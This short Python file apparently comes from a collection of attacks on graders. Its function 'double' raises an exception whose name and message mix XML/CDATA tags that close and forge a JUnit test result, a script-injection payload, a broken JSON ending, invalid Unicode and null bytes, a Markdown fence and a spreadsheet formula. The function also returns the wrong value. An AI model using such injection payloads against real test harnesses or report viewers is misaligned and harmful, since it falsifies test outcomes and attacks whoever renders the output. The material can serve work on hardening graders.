"""Raises text that ends XML, HTML, Markdown and JSON wherever it is pasted."""
# exercise: double


def double(x, times=1):
    ### BEGIN EXPLOIT
    raise type("]]></failure><testcase name='x'/>", (Exception,), {})(
        ']]></failure></testcase></testsuite><script>alert(1)</script>"}]}\ud800\x00\ufffe```\n=1+1'
    )
    ### END EXPLOIT
    return x * 3**times
